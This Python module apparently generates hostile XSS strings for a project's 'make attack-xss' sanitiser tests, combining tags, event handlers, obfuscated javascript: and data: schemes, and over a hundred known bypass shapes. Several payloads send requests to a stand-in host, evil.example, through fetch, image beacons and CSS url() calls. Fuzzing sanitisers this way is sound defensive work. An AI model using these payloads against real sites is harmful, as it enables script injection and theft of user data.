"""Hostile strings for `make attack-xss`: shapes that broke sanitisers, and seeded crosses of tags, handlers, schemes.

Must not: hold anybody else's list. `LIST=file` brings one: JSON, an array of strings or of objects with `payload`.
"""

from __future__ import annotations

import base64
import json
import random
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path

EVIL = "evil.example"
ACTS = (
    "alert({n})",
    "confirm`{n}`",
    "console.log('hd{n}')",
    "window.hd={n}",
    f"fetch('//{EVIL}/{{n}}')",
    f"location='//{EVIL}/{{n}}'",
    f"new Image().src='//{EVIL}/{{n}}'",
    "open('about:blank')",
    "top.document.title={n}",
    "setTimeout('alert({n})')",
    "import('data:text/javascript,alert({n})')",
    "eval(atob('YWxlcnQoMSk='))",
)
TAGS = (
    *("img src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus", "select autofocus", "a tabindex=1"),
    *("textarea autofocus", "details open", "marquee", "iframe src=about:blank", "object data=x", "embed src=x", "p"),
    *(
        "table background=x",
        "form",
        "math",
        "style",
        "link rel=stylesheet href=x",
        "isindex",
        "keygen autofocus",
        "xss",
    ),
    *("div contenteditable", "video><source src=x", "svg><animate", "svg><image href=x", "dialog open", "td", "font"),
)
HANDLERS = (
    *("onerror", "onload", "onfocus", "onclick", "onmouseover", "ontoggle", "onstart", "onbegin", "onpageshow"),
    *("onanimationstart", "ontransitionend", "onpointerenter", "onwheel", "onscrollend", "onbeforematch", "onblur"),
    *("onfocusin", "onloadstart", "onauxclick", "oncontentvisibilityautostatechange", "onpropertychange"),
)
PLACES = (
    '<a href="{u}">k</a>',
    "<a href='{u}' target=_self>k</a>",
    '<form action="{u}"><button>k</button></form>',
    '<button form=x formaction="{u}">k</button>',
    '<iframe src="{u}"></iframe>',
    '<embed src="{u}">',
    '<object data="{u}"></object>',
    '<base href="{u}">',
    '<svg><a xlink:href="{u}"><text y=9>k</text></a></svg>',
    '<math href="{u}">k</math>',
    '<link rel=import href="{u}">',
    '<meta http-equiv=refresh content="0;url={u}">',
    '<img src="{u}">',
    '<img srcset="{u} 1x">',
    '<video poster="{u}"></video>',
    '<body background="{u}">',
    '<input type=image src="{u}">',
    '<area href="{u}">',
    '<script src="{u}"></script>',
    '<svg><use href="{u}"/></svg>',
    '<svg><image xlink:href="{u}"/></svg>',
    '<p style="background:url({u})">k',
    '<blockquote cite="{u}">k</blockquote>',
    '<a ping="{u}" href=#>k</a>',
    "[k]({u})",
    "![k]({u})",
    "<{u}>",
)
SCHEMES: tuple[Callable[[str], str], ...] = (
    lambda js: f"javascript:{js}",
    lambda js: f"JaVaScRiPt:{js}",
    lambda js: f"java\tscript:{js}",
    lambda js: f"java\nscript:{js}",
    lambda js: f"&#106;avascript&#58;{js}",
    lambda js: "".join(f"&#x{ord(char):X}" for char in "javascript:") + js,
    lambda js: f"java&Tab;script&colon;{js}",
    lambda js: f"\x01 javascript:{js}",
    lambda js: f"javascript\u00a0:{js}",
    lambda js: f"%6aavascript:{js}",
    lambda js: f"vbscript:{js}",
    lambda js: f"data:text/html,<script>{js}</script>",
    lambda js: "data:text/html;base64," + base64.b64encode(f"<script>{js}</script>".encode()).decode(),
    lambda js: f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{js}'/>",
    lambda js: f"feed:javascript:{js}",
    lambda js: f"view-source:javascript:{js}",
    lambda js: f'cid:x" onerror="{js}',
    lambda js: f"//{EVIL}/{len(js)}",
    lambda js: f"https:{EVIL}/{len(js)}",
    lambda js: f"\\\\{EVIL}\\{len(js)}",
    lambda js: f"http://{EVIL}/{len(js)}",
    lambda js: f'mailto:a@b?x="><img src=x onerror={js}>',
)
SPELLINGS: tuple[Callable[[str, str, str], str], ...] = (
    lambda tag, on, js: f"<{tag} {on}={js}>",
    lambda tag, on, js: f'<{tag} {on}="{js}"//>',
    lambda tag, on, js: f"<{tag.upper()}/{on.upper()}='{js}'>",
    lambda tag, on, js: f"<{tag}\n{on}\n=\n{js}>",
    lambda tag, on, js: f"<{tag}\x0c{on}=`{js}`>",
    lambda tag, on, js: f"<{tag} x='>' {on}={js}>",
    lambda tag, on, js: f'"><{tag} {on}={js}>',
    lambda tag, on, js: f"'>\"><!--><{tag} {on}={js}>",
    lambda tag, on, js: f"<<{tag} {on}={js}",
    lambda tag, on, js: f"<{tag} {on[:4]}\x00{on[4:]}={js} {on}={js}>",
    lambda tag, on, js: f"&lt;{tag} {on}={js}&gt;",
    lambda tag, on, js: f"<{tag} {on}={''.join(f'&#{ord(char)};' for char in js)}>",
)
SHAPES = (
    "<script>{js}</script>",
    "<script>{js}",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<script/x>{js}</script/x>",
    "<script type=module>{js}</script>",
    "</script><script>{js}</script>",
    "</title><script>{js}</script>",
    "</textarea><script>{js}</script>",
    "</pre></code><script>{js}</script>",
    "</details></summary><img src=x onerror={js}>",
    "--><script>{js}</script><!--",
    "--!><img src=x onerror={js}>",
    "<!--><img src=x onerror={js}>-->",
    "<!--[if gte IE 4]><script>{js}</script><![endif]-->",
    "<![CDATA[<img src=x onerror={js}>]]>",
    "<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>{js}</script>",
    "<?import><img src=x onerror={js}>?>",
    '" autofocus onfocus={js} x="',
    "' autofocus onfocus={js} x='",
    "` onfocus={js} ",
    '" style="animation-name:x" onanimationstart="{js}',
    '\\"-{js}//',
    "';{js};//",
    "{{{{7*7}}}} ${{{{{js}}}}} {{% raw %}} %(x)s #{{{js}}}",
    "<svg><script>{js}</script></svg>",
    "<svg><script href='data:text/javascript,{js}'/>",
    "<svg><style><img src=x onerror={js}></style></svg>",
    '<svg></p><style><a id="</style><img src=x onerror={js}>">',
    "<svg><desc><noscript><img src=x onerror={js}></noscript></desc></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>{js}</script>'></iframe></foreignObject></svg>",
    "<svg><animate attributeName=href values=javascript:{js} /><a id=x><text y=9>k</text></a></svg>",
    "<svg><a><set attributeName=href to=javascript:{js} /><text y=9>k</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='{js}'/>#x\">",
    "<svg><filter><feImage href='//evil.example/f'/></filter></svg>",
    "<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event='load'>{js}</handler></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg' onload='{js}'><title>&lt;/title>&lt;script></title></svg>",
    "<svg/onload={js}><!--",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={js}&gt;">',
    "<math><mtext><table><mglyph><style><math href=javascript:{js}>k</style></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={js}>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror={js}></annotation-xml></math>",
    "<math><mi//xlink:href='data:x,<script>{js}</script>'>k",
    "<math><maction actiontype=statusline xlink:href=javascript:{js}>k</maction></math>",
    '<noscript><p title="</noscript><img src=x onerror={js}>">',
    "<noembed><img title='</noembed><img src=x onerror={js}>'></noembed>",
    "<noframes><style></noframes><img src=x onerror={js}></style>",
    "<xmp><p title='</xmp><img src=x onerror={js}>'></xmp>",
    "<listing>&lt;img src=x onerror={js}&gt;</listing>",
    '<title><a title="</title><img src=x onerror={js}>"></title>',
    "<textarea><p title='</textarea><img src=x onerror={js}>'>",
    "<style><style/><img src=x onerror={js}>",
    "<style>@import '//evil.example/s.css';*{{background:url(//evil.example/b)}}</style>",
    "<style><!--</style><script>{js}//--></script>",
    "<plaintext><img src=x onerror={js}>",
    "<template><script>{js}</script></template>",
    "<template shadowrootmode=open><img src=x onerror={js}></template>",
    "<div><template shadowrootmode=open><slot onslotchange={js}></slot></template>k</div>",
    "<select><template><img src=x onerror={js}></template></select>",
    "<select><style></select><img src=x onerror={js}></style>",
    "<table><tr><td><svg><td><p></svg><img src=x onerror={js}>",
    "<table><caption><svg><title><table><img src=x onerror={js}>",
    "<a><table><a href=javascript:{js}>k",
    "<p><svg><p><style><!--</style><img src=x onerror={js}>-->",
    "<b><frameset onload={js}></b><frame src=javascript:{js}>",
    "<iframe srcdoc='&lt;script&gt;parent.{js}&lt;/script&gt;'></iframe>",
    "<iframe srcdoc=\"<img src=x onerror='{js}'>\" sandbox=allow-scripts></iframe>",
    "<iframe src='/werk' onload={js}></iframe>",
    "<object type=text/html data='data:text/html,<script>{js}</script>'></object>",
    "<object><param name=src value=javascript:{js}></object>",
    "<applet code=x onerror={js}></applet>",
    "<link rel=stylesheet href='//evil.example/l.css'><link rel=preload as=image href='//evil.example/p'>",
    "<link rel=dns-prefetch href='//evil.example'><link rel=prerender href='//evil.example/pre'>",
    "<meta http-equiv=refresh content='0; url=javascript:{js}'>",
    "<meta charset=utf-7>+ADw-script+AD4-{js}+ADw-/script+AD4-",
    "<meta http-equiv=content-security-policy content=\"script-src 'unsafe-inline'\"><script>{js}</script>",
    "<base href='//evil.example/'><img src=x>",
    "<base target=_top><a href='//evil.example/'>k</a>",
    "<form id=hd></form><input form=hd autofocus onfocus={js}>",
    "<form action='/uitloggen' method=post><button>k</button></form><form><input name=parentNode>",
    "<img name=getElementById><img name=cookie><form name=body>",
    "<a id=defaultView href=javascript:{js}><a id=defaultView name=x>",
    "<input type=hidden accesskey=x onclick={js}>",
    "<button popovertarget=x>k</button><div popover id=x onbeforetoggle={js}>k</div>",
    "<details open ontoggle={js}><summary>k",
    "<video><source onerror={js}></video><audio controls src=//evil.example/a onplay={js}>",
    "<img src=//evil.example/pixel.gif width=1 height=1>",
    "<img src=x:x srcset='//evil.example/2 2x' sizes=1 lowsrc=//evil.example/3>",
    "<picture><source srcset=//evil.example/4><img src=x></picture>",
    "<table background=//evil.example/5><td background=//evil.example/6>k",
    "<p style=\"background-image:url('//evil.example/7')\">k",
    "<p style=background:\\75rl(//evil.example/8)>k",
    '<p style="background:u/**/rl(//evil.example/9);content:url(//evil.example/10)">k',
    "<p style='list-style:url(//evil.example/11);cursor:url(//evil.example/12),auto;display:list-item'>k",
    "<p style=\"background:image-set('//evil.example/13' 1x)\">k",
    "<p style='width:expression({js})'>k",
    "<p style='-moz-binding:url(//evil.example/x.xml#a);behavior:url(#default#time2)'>k",
    "<p style='--x:url(//evil.example/14);background:var(--x)'>k",
    "<p style='position:fixed;inset:0;z-index:9;background:red'>k",
    "<p style='font-family:\"</style><img src=x onerror={js}>\"'>k",
    "<p style='font-family:&quot;;background:url(//evil.example/15)'>k",
    "<font face='x\" onmouseover={js} y=\"' color='red;background:url(//evil.example/16)'>k",
    "<div align='left\" onclick={js}'>k<ol type='a\" onclick={js}'><li>k",
    "<a href='https://ok.example\"onmouseover={js} x=\"'>k</a>",
    "<a href=https://ok.example/`onclick={js}>k</a>",
    "<a href=\"https://ok.example/' onclick='{js}\">k</a>",
    "<a href='http://[::1' onclick={js}>k</a>",
    'https://ok.example/"onmouseover={js}//',
    "[k](javascript:{js})",
    "[k](<java\nscript:{js}>)",
    '[k]: javascript:{js} "t"\n\n[k]',
    "[k](https://ok.example \"t' onclick={js} '\")",
    '[k](https://ok.example/"onmouseover={js}//)',
    "[<img src=x onerror={js}>](https://ok.example)",
    "[k](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '![k](https://evil.example/md.png "x")',
    "<javascript:{js}>",
    "```html\n<script>{js}</script>\n```\n</code></pre><script>{js}</script>",
    "`</code><img src=x onerror={js}>`",
    "> <script>{js}</script>\n\n<div\n>\n<img src=x\nonerror={js}>",
    "**<b onclick={js}>**k**</b>**",
    "\uff1cscript\uff1e{js}\uff1c/script\uff1e",
    "\u202e<img src=x onerror={js}>\u202c",
    "<img src=x onerror={js}>\x00<img src=x onerror={js}>",
    "<im\x00g src=x onerror={js}><\x00script>{js}</script>",
    "\x1b$B<img src=x onerror={js}>\x1b(B",
    "k\r\nBcc: x@evil.example\r\n\r\n<script>{js}</script>",
    "k\r\n--b\r\nContent-Type: text/html\r\n\r\n<script>{js}</script>",
    "=?utf-8?b?PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==?= <script>{js}</script>",
    '"<script>{js}</script>" <a@evil.example>',
    "../../<script>{js}</script>.svg",
)


@dataclass(frozen=True, slots=True)
class Hostile:
    """One string with a name to find it again."""

    name: str
    text: str


def own_strings(seed: int, count: int) -> list[Hostile]:
    """Every shape, and crosses drawn by `seed` until there are `count`, each once."""
    chance = random.Random(seed)
    made = {f"shape-{index}": _fill(shape, chance, index) for index, shape in enumerate(SHAPES)}
    seen = set(made.values())
    while len(made) < count:
        text = _handler(chance, len(made)) if chance.random() < 0.5 else _address(chance, len(made))
        if text not in seen:
            seen.add(text)
            made[f"cross-{len(made)}"] = text
    return [Hostile(name, text) for name, text in made.items()]


def _act(chance: random.Random, number: int) -> str:
    return chance.choice(ACTS).format(n=number)


def _fill(shape: str, chance: random.Random, number: int) -> str:
    return shape.format(js=_act(chance, number))


def _handler(chance: random.Random, number: int) -> str:
    return chance.choice(SPELLINGS)(chance.choice(TAGS), chance.choice(HANDLERS), _act(chance, number))


def _address(chance: random.Random, number: int) -> str:
    return chance.choice(PLACES).replace("{u}", chance.choice(SCHEMES)(_act(chance, number)))


def listed(path: Path) -> list[Hostile]:
    """The strings of a list: a JSON array of strings, or of objects with `payload` and perhaps `id`."""
    rows = json.loads(path.read_text(encoding="utf-8"))
    return [
        Hostile(str(row.get("id", index)), str(row["payload"])) if isinstance(row, dict) else Hostile(str(index), row)
        for index, row in enumerate(rows)
    ]


def some(strings: Sequence[Hostile], count: int, seed: int) -> list[Hostile]:
    """A seeded choice of them."""
    return random.Random(seed).sample(list(strings), min(count, len(strings)))
